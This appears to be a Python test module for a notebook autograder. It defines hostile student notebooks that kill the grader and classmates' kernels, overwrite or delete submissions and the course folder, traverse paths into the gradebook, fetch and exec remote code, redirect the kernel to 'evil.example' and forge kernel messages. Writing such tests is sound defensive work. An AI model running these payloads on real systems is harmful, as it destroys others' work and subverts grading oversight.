"""Attacks on other processes, on classmates, on the network."""

from hostile.attack import attack
from hostile.lesson import LESSON, NOT_EXPECTED, WRONG, notebook


@attack(needs="sandbox")
def kills_the_grader():
    """Kill the process that grades; the answers are right."""
    return notebook(
        """
        import os, signal
        for number in (signal.SIGTERM, signal.SIGKILL):
            try:
                os.kill(os.getppid(), number)
            except OSError:
                pass
        """
    )


@attack(needs="sandbox")
def kills_classmates_kernels():
    """Kill every process that works in the course folder; the answers are right."""
    return notebook(
        """
        import glob, os, signal
        for entry in glob.glob("/proc/[0-9]*"):
            try:
                if os.readlink(entry + "/cwd").startswith("@COURSE@") and int(entry[6:]) != os.getpid():
                    os.kill(int(entry[6:]), signal.SIGKILL)
            except OSError:
                pass
        """
    )


@attack(NOT_EXPECTED, wrong=True, needs="sandbox")
def asks_a_friend():
    """Fetch the right answers from a friend on the network."""
    return notebook(
        f"""
        from urllib.request import urlopen
        two, mean, formula = {", ".join(WRONG)}
        try:
            exec(urlopen("http://127.0.0.1:@PORT@", timeout=2).read())
        except OSError:
            pass
        """,
        answers=("two", "mean", "formula"),
    )


@attack(needs="sandbox")
def overwrites_classmates():
    """Overwrite what classmates have handed in; the answers are right."""
    return notebook(
        """
        import glob
        for path in glob.glob("@COURSE@/submitted/*-honest/*/*.ipynb"):
            try:
                open(path, "w").write("{}")
            except OSError:
                pass
        """
    )


@attack(needs="sandbox")
def writes_by_a_winding_path():
    """Write into the folders above its own by a path with dots; the answers are right."""
    return notebook(
        f"""
        import os
        for up in range(1, 6):
            for target in ("gradebook.db", "submitted/zoe-honest/{LESSON}/{LESSON}.ipynb"):
                try:
                    path = os.path.join(*[".."] * up, target)
                    if os.path.exists(path):
                        open(path, "w").write("gone")
                except OSError:
                    pass
        """
    )


@attack(needs="sandbox")
def deletes_the_course():
    """Delete the whole course folder; the answers are right."""
    return notebook("import shutil\nshutil.rmtree('@COURSE@', ignore_errors=True)")


@attack()
def forges_its_connection_file():
    """Overwrite the file that tells where the kernel listens; the answers are right."""
    return notebook(
        """
        from ipykernel.connect import get_connection_file
        try:
            open(get_connection_file(), "w").write('{"ip": "evil.example", "key": ""}')
        except OSError:
            pass
        """
    )


@attack(needs="sandbox")
def writes_into_all_sockets():
    """Write nonsense into its own kernel's sockets; the answers are right."""
    return notebook(
        """
        import json, socket
        from ipykernel.connect import get_connection_file
        info = json.load(open(get_connection_file()))
        for channel in ("shell", "iopub", "stdin", "control", "hb"):
            try:
                if info["transport"] == "ipc":
                    line = socket.socket(socket.AF_UNIX)
                    line.connect(f"{info['ip']}-{info[channel + '_port']}")
                else:
                    line = socket.create_connection((info["ip"], info[channel + "_port"]), 1)
                line.sendall(b"\\x00" * 1000)
                line.close()
            except OSError:
                pass
        """
    )


@attack()
def asks_for_input():
    """Ask for input and for a password, which nobody types; the answers are right."""
    return notebook("import getpass\ninput('Points? ')", last="getpass.getpass()")


@attack()
def sends_strange_messages():
    """Send messages that no kernel of good faith sends; the answers are right."""
    return notebook(
        """
        kernel = get_ipython().kernel
        for kind, content in [
            ("stream", {"nothing": 1}), ("status", {"execution_state": "idle"}), ("error", {}),
            ("clear_output", {"wait": "?"}), ("comm_msg", {"comm_id": 7}), ("no_such_type", [1]),
            ("update_display_data", {"data": {}, "transient": {"display_id": ["x"]}}),
            ("execute_input", {"code": 1, "execution_count": "many"}),
        ]:
            kernel.session.send(kernel.iopub_socket, kind, content, parent=kernel.get_parent())
        """
    )


@attack()
def sends_bad_signatures():
    """Send messages with a false signature, and some that are no messages; the answers are right."""
    return notebook(
        """
        kernel = get_ipython().kernel
        kernel.iopub_socket.send_multipart([b"<IDS|MSG>", b"0" * 64, b"{}", b"{}", b"{}", b"{}"])
        kernel.iopub_socket.send_multipart([b"nonsense"])
        """
    )
